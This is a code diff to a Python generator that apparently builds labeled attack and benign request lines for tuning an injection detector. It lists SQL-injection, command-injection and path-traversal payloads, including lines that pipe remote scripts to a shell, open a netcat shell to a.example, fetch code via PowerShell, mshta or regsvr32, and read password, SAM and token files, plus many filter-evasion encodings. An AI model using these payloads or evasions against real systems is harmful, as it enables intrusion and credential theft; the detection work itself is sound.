@@ -368,22 +368,195 @@ PATH_TRANSFORMS: dict[str, Callable[[str, int, random.Random], str]] = {
 }
 
 
-def generated(category: str, rng: random.Random) -> Iterator[tuple[str, str]]:
+# --- more generators (session 10): tune only ---------------------------------
+# Forms the issue lists that the generators above did not produce, each
+# applied to base payloads of its own (a separate random stream, so the
+# lines above stay as they were).  Every line of these families is C{tune}:
+# they were written knowing the rules, so they cannot stand for traffic the
+# rules were not tuned on.
+
+SQL_BASES_MORE = [
+    "'; EXEC xp_cmdshell 'whoami'--", "1; EXEC master..xp_dirtree '\\\\a.example\\x'--", "1; COPY (SELECT '') TO PROGRAM 'id'--",
+    "' || UTL_HTTP.REQUEST('http://a.example/'||user)--", "1 AND 1=(SELECT COUNT(*) FROM all_users)", "' AND 1=randomblob(500000000)--",
+    "1 UNION SELECT sqlite_version()", "' AND (SELECT 1 FROM pg_sleep(5)) IS NULL--", "1 OR 1=1 LIMIT 1--", "admin'/*",
+    "' OR 1 IN (SELECT @@version)--", "1 AND ORD(MID(user(),1,1))>64", "'; SHUTDOWN--", "1 ORDER BY 5--", "' GROUP BY 1 HAVING 1=1--",
+    "1' AND '1'='1", "\" OR \"\"=\"", "') OR ('a'='a", "1)) OR 1=1--", "' OR 'x' LIKE 'x", "1 AND 'a'<>'b'", "' OR 2>1--",
+    "1; SELECT * FROM pg_shadow--", "' UNION SELECT table_name FROM information_schema.tables--", "-1' UNION SELECT 1,2,3#",
+    "1 AND IF(1=1,SLEEP(5),0)", "' AND (SELECT CASE WHEN 1=1 THEN 1/0 ELSE 1 END)=1--", "1; DROP TABLE sessions",
+]
+
+
+def _sqlWords(s: str, fn: Callable[[str], str]) -> str:
+    return re.sub(r"\b(?:UNION|SELECT|FROM|WHERE|AND|OR|EXEC|DROP|TABLE|ORDER|BY|SLEEP|HAVING|LIMIT|COUNT|IN|LIKE|IS|NULL)\b",
+                  lambda m: fn(m.group(0)), s, flags=re.I)
+
+
+def _charLiterals(s: str) -> str:
+    return re.sub(r"'([A-Za-z0-9]{1,12})'", lambda m: "CHAR(" + ",".join(str(ord(c)) for c in m.group(1)) + ")", s)
+
+
+def _hexLiterals(s: str) -> str:
+    return re.sub(r"'([A-Za-z0-9]{1,12})'", lambda m: "0x" + m.group(1).encode().hex(), s)
+
+
+SQL_TRANSFORMS_MORE: dict[str, Callable[[str, random.Random], str]] = {
+    "plain2": lambda s, r: s,
+    "line_comment": lambda s, r: s.replace(" ", r.choice(["--%0a", "#%0a", "-- x\n", "#\n"])),
+    "comment_text": lambda s, r: s.replace(" ", r.choice(["/*foo*/", "/*!*/", "/*x y*/", "/*--*/"])),
+    "parens": lambda s, r: re.sub(r"\b(UNION|SELECT|AND|OR|WHERE)\s+", r"\1(", s, flags=re.I),
+    "spaces_other": lambda s, r: s.replace(" ", r.choice(["%0c", "%0d", "%a0", "%20", "%09%09", "\r\n"])),
+    "pct_quote": lambda s, r: s.replace("'", "%27").replace("\"", "%22").replace("#", "%23"),
+    "unicode_escape": lambda s, r: s.replace("'", "\\u0027").replace(" ", "\\u0020"),
+    "char_literals": lambda s, r: _charLiterals(s),
+    "hex_literals": lambda s, r: _hexLiterals(s),
+    "case_comment": lambda s, r: _sqlWords(_commentSplit(s, r), lambda w: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)),
+    "url_comment": lambda s, r: quote(s.replace(" ", "/**/"), safe=""),
+    "html_dec": lambda s, r: "".join(f"&#{ord(c)};" if c in "'\" =" else c for c in s),
+    "html_hex": lambda s, r: "".join(f"&#x{ord(c):x};" if c in "'\" =<>" else c for c in s),
+    "fullwidth": lambda s, r: _fullwidth(s),
+    "backslash_quote": lambda s, r: s.replace("'", "\\'"),
+    "nul_prefix": lambda s, r: r.choice(["%00", "\\0", "\x00"]) + s,
+    # two of the issue's obfuscations stacked: encoding once more keeps it an attack
+    "url_case_split": lambda s, r: quote(SQL_TRANSFORMS["case"](_commentSplit(s, r), r), safe=""),
+    "double_url_tab": lambda s, r: quote(quote(s.replace(" ", "\t"), safe=""), safe=""),
+    "html_url": lambda s, r: "".join(f"&#{ord(c)};" if c in "%" else c for c in quote(s, safe=" ")),
+    "pct_u_comment": lambda s, r: "".join(f"%u{ord(c):04x}" if c in "'=" else c for c in s.replace(" ", "/**/")),
+}
+
+CMD_BASES_MORE = [
+    ("cat", "/etc/passwd"), ("id", ""), ("whoami", ""), ("uname", "-a"), ("ls", "-la /root"), ("curl", "http://a.example/s|sh"),
+    ("wget", "-q -O- http://a.example/x"), ("nc", "a.example 4444 -e /bin/bash"), ("ps", "aux"), ("sleep", "5"),
+    ("cat", "/proc/self/environ"), ("tail", "-n 20 /var/log/auth.log"), ("env", ""), ("hostname", ""), ("ifconfig", ""),
+]
+
+
+def _octal(c: str) -> str:
+    return "$'" + "".join(f"\\{ord(x):03o}" for x in c) + "'"
+
+
+def _uEscape(c: str) -> str:
+    return "$'" + "".join(f"\\u{ord(x):04x}" if i % 2 == 0 else x for i, x in enumerate(c)) + "'"
+
+
+CMD_TRANSFORMS_MORE: dict[str, Callable[[str, str, random.Random], str]] = {
+    "octal": lambda c, a, r: _octal(c) + (" " + a if a else ""),
+    "u_escape": lambda c, a, r: _uEscape(c) + (" " + a if a else ""),
+    "printf_subst": lambda c, a, r: "$(printf '" + "".join(f"\\x{ord(x):02x}" for x in c) + "')" + (" " + a if a else ""),
+    "xxd": lambda c, a, r: "echo " + f"{c} {a}".strip().encode().hex() + " | xxd -r -p | sh",
+    "tr_rot13": lambda c, a, r: "echo '" + f"{c} {a}".strip().translate(str.maketrans(
+        "abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")) + "' | tr a-z n-za-m | bash",
+    "eval": lambda c, a, r: (lambda q: f"eval {q}{c} {a}".strip() + q)(r.choice("'\"")),
+    "path_substr": lambda c, a, r: c + " " + a.replace("/", "${PATH:0:1}") if "/" in a else c,
+    "unset_var": lambda c, a, r: c[0] + r.choice(["${u}", "${x}", "$()", "$u\"\""]) + c[1:] + (" " + a if a else ""),
+    "star_positional": lambda c, a, r: c[0] + r.choice(["$*", "$9", "$5"]) + c[1:] + (" " + a if a else ""),
+    "char_class": lambda c, a, r: "/bin/" + c[0] + "[" + c[1:2] + "]" + c[2:] + (" " + a if a else ""),
+    "star_glob": lambda c, a, r: "/b*/" + c + (" " + re.sub(r"(?<=/)(\w\w)\w+", r"\1*", a) if a else ""),
+    "double_quote_insert": lambda c, a, r: c[0] + '"' + c[1:2] + '"' + c[2:] + (" " + a if a else ""),
+    "quote_whole": lambda c, a, r: "'" + c + "'" + (" " + a if a else ""),
+    "ifs_var": lambda c, a, r: c + ("$IFS" + a.replace(" ", "$IFS") if a else ""),
+    "tab": lambda c, a, r: c + ("\t" + a.replace(" ", "\t") if a else ""),
+    "brace_ifs": lambda c, a, r: "{" + c + (",".join([""] + a.split()) if a else ",") + "}",
+    # two stacked: an obfuscation, then URL encoding of the whole line
+    "url_quote_insert": lambda c, a, r: quote(f"{_quoteInsert(c, r)} {a}".strip(), safe=""),
+    "url_ifs": lambda c, a, r: quote(c + ("${IFS}" + a.replace(" ", "${IFS}") if a else ""), safe=""),
+    "double_url_backslash": lambda c, a, r: quote(quote("\\".join(c) + (" " + a if a else ""), safe=""), safe=""),
+}
+CMD_SEPARATORS_MORE = {
+    "semicolon_tight": ";", "pipe_tight": "|", "and_tight": "&&", "or_tight": "||", "amp_tight": "&", "crlf": "\r\n",
+    "enc_crlf": "%0d%0a", "enc_semicolon": "%3b", "enc_pipe": "%7c", "enc_amp": "%26", "quote_semicolon": "'; ",
+    "dquote_semicolon": "\"; ", "quote_pipe": "' | ", "subst": "$(", "backtick": "`", "newline": "\n",
+}
+CMD_EXTRA_MORE = [
+    "& c^m^d /c who^ami", "| cmd /c \"who\"\"ami\"", "& %COMSPEC% /c dir", "&& set x=who&& set y=ami&& call %x%%y%",
+    "| powershell -enc dwBoAG8AYQBtAGkA", "& powershell IEX(iwr http://a.example/p)", "| cmd /v:on /c \"set x=whoami&&!x!\"",
+    "; powershell -c \"& ('who'+'ami')\"", "& powershell gc C:\\Windows\\win.ini", "| type%ProgramFiles:~10,1%C:\\Windows\\win.ini",
+    "& ,;cmd /c whoami", "; python3 -c \"__import__('os').system('id')\"", "| php -r \"passthru('id');\"",
+    "; perl -MIO::Socket -e 'exec \"/bin/sh\"'", "; node -e \"require('child_process').exec('id')\"",
+    "; ruby -e 'system(\"id\")'", "| awk 'BEGIN{system(\"id\")}'", "; os.popen('id').read()", "${@passthru('id')}",
+    "; IO.popen('id').read", "Runtime.getRuntime().exec(\"id\")", "; pcntl_exec('/bin/sh')", "| proc_open('id',$d,$p)",
+    "; lua -e 'os.execute(\"id\")'", "| osascript -e 'do shell script \"id\"'", "; gawk 'BEGIN{system(\"id\")}'",
+    "& wmic process call create calc.exe", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
+    "| mshta http://a.example/x.hta", "& regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
+    # looking around a host or a domain (Windows, Linux), after a separator
+    "& netsh wlan show profiles", "| route print", "&& nltest /domain_trusts", "& schtasks /query /fo LIST /v",
+    "| gpresult /z", "& vssadmin list shadows", "; df -h", "| dmesg", "; lscpu", "&& lsblk -f", "; hostnamectl",
+]
+
+PATH_TARGETS_MORE = [
+    "etc/passwd", "etc/shadow", "proc/self/fd/0", "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/mysql/my.cnf",
+    "etc/ssh/sshd_config", "inetpub/wwwroot/web.config", "usr/local/apache2/conf/httpd.conf", "home/user/.bash_history",
+    "root/.bashrc", "etc/environment", "etc/fstab", "etc/crontab", "var/log/auth.log", "var/mail/root",
+    "windows/system32/config/sam", "windows/repair/sam", "windows/panther/unattend.xml", "xampp/apache/conf/httpd.conf",
+    "opt/tomcat/conf/tomcat-users.xml", "etc/php/7.4/apache2/php.ini", "etc/redis/redis.conf",
+    "var/lib/jenkins/secrets/initialAdminPassword", "proc/self/status", "etc/group",
+]
+PATH_TRANSFORMS_MORE: dict[str, Callable[[str, int, random.Random], str]] = {
+    "url_backslash": lambda t, n, r: "%2e%2e%5c" * n + t.replace("/", "%5c"),
+    "double_backslash": lambda t, n, r: "%252e%252e%255c" * n + t,
+    "upper_pct": lambda t, n, r: "%2E%2E%2F" * n + t,
+    "half_dot": lambda t, n, r: r.choice([".%2e/", "%2e./", "..%2F", ".%2E%2F"]) * n + t,
+    "dot_slash": lambda t, n, r: "./" + "../" * n + t.replace("/", "/./"),
+    "double_slash": lambda t, n, r: "..//" * n + t.replace("/", "//"),
+    "fullwidth_backslash": lambda t, n, r: "\uff0e\uff0e\uff3c" * n + t,
+    "overlong_c0_2f": lambda t, n, r: "..%c0%2f" * n + t,
+    "overlong_c0_5c": lambda t, n, r: "..%c0%5c" * n + t,
+    "pct_u_backslash": lambda t, n, r: "%u002e%u002e%u2216" * n + t,
+    "pct_u_plain": lambda t, n, r: "%u002e%u002e%u002f" * n + t,
+    "dot_leader": lambda t, n, r: "\u2024\u2024/" * n + t,
+    "absolute_encoded": lambda t, n, r: "%2f" + t.replace("/", "%2f"),
+    "absolute_dotslash": lambda t, n, r: "/./" + t.replace("/", "/./"),
+    "absolute_double": lambda t, n, r: "//" + t.replace("/", "//"),
+    "absolute_climb": lambda t, n, r: "/" + t.split("/")[0] + "/../" + t,
+    "absolute_nul": lambda t, n, r: "/" + t + r.choice(["%00", "%00.jpg", "%2500.png"]),
+    "encoded_nul": lambda t, n, r: "../" * n + t + "%2500",
+    "file_localhost": lambda t, n, r: "file://localhost/" + t,
+    "file_single": lambda t, n, r: r.choice(["file:/", "FILE:///", "file:////"]) + t,
+    "phar": lambda t, n, r: "phar://uploads/avatar.jpg/" + t.rsplit("/", 1)[-1],
+    "data_wrapper": lambda t, n, r: "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
+    "compress": lambda t, n, r: r.choice(["compress.zlib:///", "compress.bzip2:///", "glob:///"]) + t,
+    "php_filter_chain": lambda t, n, r: "php://filter/convert.iconv.utf-8.utf-16/resource=/" + t,
+    "php_filter_upper": lambda t, n, r: "PHP://FILTER/resource=" + "../" * n + t,
+    "windows_upper": lambda t, n, r: "C:\\" + (t if t.startswith(("windows", "inetpub", "xampp")) else "windows/win.ini").upper().replace("/", "\\"),
+    "windows_ads": lambda t, n, r: "..\\" * n + t.replace("/", "\\") + "::$DATA",
+    "windows_trailing": lambda t, n, r: "..\\" * n + t.replace("/", "\\") + r.choice([".", " ", "...", "./"]),
+    "mixed_prefix": lambda t, n, r: r.choice(["uploads\\", "static/", "img\\..\\"]) + "..\\/" * (n + 1) + t,
+    "tilde_home": lambda t, n, r: "~/" + "../" * n + t,
+    # two stacked: a form above, then one more encoding
+    "url_backslash_mixed": lambda t, n, r: quote("".join(r.choice(["../", "..\\"]) for _ in range(n)) + t, safe=""),
+    "double_overlong": lambda t, n, r: "%25c0%25ae%25c0%25ae%25c0%25af" * n + t,
+    "html_dots": lambda t, n, r: "&#46;&#46;&#47;" * n + t,
+    "json_escape": lambda t, n, r: "\\u002e\\u002e\\u002f" * n + t,
+    "fullwidth_url": lambda t, n, r: quote("\uff0e\uff0e\uff0f" * n, safe="") + t,
+    "nested_backslash": lambda t, n, r: "....\\\\" * n + t.replace("/", "\\"),
+}
+
+
+def generated(category: str, rng: random.Random, more: bool = False) -> Iterator[tuple[str, str]]:
+    """
+    The generated lines of C{category}: the first families, or with C{more}
+    those of session 10.
+    """
     if category == "sql_injection":
-        for name, fn in SQL_TRANSFORMS.items():
-            for base in SQL_BASES:
+        transforms, bases = (SQL_TRANSFORMS_MORE, SQL_BASES_MORE) if more else (SQL_TRANSFORMS, SQL_BASES)
+        for name, fn in transforms.items():
+            for base in bases:
                 yield f"generated:{name}", fn(base, rng)
     elif category == "command_injection":
-        for name, fn in CMD_TRANSFORMS.items():
-            for cmd, arg in CMD_BASES:
-                sepName, sep = rng.choice(list(CMD_SEPARATORS.items()))
-                yield f"generated:{name}+{sepName}", rng.choice(CMD_HOSTS) + _wrap(sep, fn(cmd, arg, rng))
-        for line in CMD_EXTRA:
-            yield "generated:interpreters_windows", rng.choice(CMD_HOSTS) + line
+        commands, pairs, separators, extra = (
+            (CMD_TRANSFORMS_MORE, CMD_BASES_MORE, CMD_SEPARATORS_MORE, CMD_EXTRA_MORE) if more
+            else (CMD_TRANSFORMS, CMD_BASES, CMD_SEPARATORS, CMD_EXTRA)
+        )
+        for name, cfn in commands.items():
+            for cmd, arg in pairs:
+                sepName, sep = rng.choice(list(separators.items()))
+                yield f"generated:{name}+{sepName}", rng.choice(CMD_HOSTS) + _wrap(sep, cfn(cmd, arg, rng))
+        for line in extra:
+            yield "generated:interpreters_windows" + ("_more" if more else ""), rng.choice(CMD_HOSTS) + line
     else:
-        for name, fn in PATH_TRANSFORMS.items():
-            for target in rng.sample(PATH_TARGETS, 10):
-                yield f"generated:{name}", fn(target, rng.randint(2, 8), rng)
+        paths, targets = (PATH_TRANSFORMS_MORE, PATH_TARGETS_MORE) if more else (PATH_TRANSFORMS, PATH_TARGETS)
+        for name, pfn in paths.items():
+            for target in rng.sample(targets, 10):
+                yield f"generated:{name}", pfn(target, rng.randint(2, 8), rng)
 
 
 # --- benign ------------------------------------------------------------------
@@ -577,6 +750,14 @@ def build(mirror: Mirror) -> dict[str, list[dict[str, str]]]:
             split = "holdout" if text in held else splitOf(category, text, source.split(":")[0])
             rows.append(dict(category=category, label="attack", tool=tool, argument=arg, text=text, direction="request",
                              source=source, split=split))
+        rng = random.Random(f"{SEED}:{category}:attacks:more")
+        for source, text in generated(category, rng, more=True):
+            tool, arg = rng.choice(ATTACK_TOOLS[category])
+            if text in seen or not _CARRIES[category].search(text):
+                continue
+            seen.add(text)
+            rows.append(dict(category=category, label="attack", tool=tool, argument=arg, text=text, direction="request",
+                             source=source, split="tune"))
         out[f"{category}.attacks.jsonl"] = rows
         rng = random.Random(f"{SEED}:{category}:benign")
         rows, seen = [], set()
